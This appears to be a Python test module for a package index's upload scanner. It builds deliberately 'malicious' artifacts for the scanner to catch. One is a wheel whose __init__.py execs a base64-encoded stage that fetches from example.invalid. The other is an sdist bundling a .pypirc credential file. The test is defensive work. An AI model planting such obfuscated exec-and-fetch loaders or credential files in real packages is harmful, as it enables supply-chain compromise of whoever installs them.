"""Uploads that the scanner judges, through the whole app, with real mail and an admin."""

from __future__ import annotations

import base64

import pytest

from tests.functional.admin.conftest import (  # noqa: F401 - fixtures
    admin_site,
    admin_user,
    cli,
    make_site,
    site,
    smtp_server,
    smtp_server_session,
)
from tests.support.artifacts import make_sdist, make_wheel

# Inert: the "stage two" only names a host that never resolves (RFC 6761).
STAGE_TWO = b"import urllib.request\nurllib.request.urlopen('https://example.invalid/x')\n"
EXEC_DECODED = f"import base64\nexec(base64.b64decode('{base64.b64encode(STAGE_TWO).decode()}'))\n"


def malicious_wheel(directory, name: str, version: str):
    package = name.replace("-", "_")
    return make_wheel(
        directory, name, version, extra_files={f"{package}/__init__.py": EXEC_DECODED}
    )


def suspicious_sdist(directory, name: str, version: str):
    return make_sdist(
        directory, name, version, extra_files={".pypirc": "[pypi]\nusername = x\npassword = y\n"}
    )


@pytest.fixture
def uploader(make_user, make_token):
    """alice (verified email) and basic-auth headers with her API token."""
    from tests.support.fixtures import basic_auth

    alice = make_user("alice")
    return alice, basic_auth("__token__", make_token(alice))
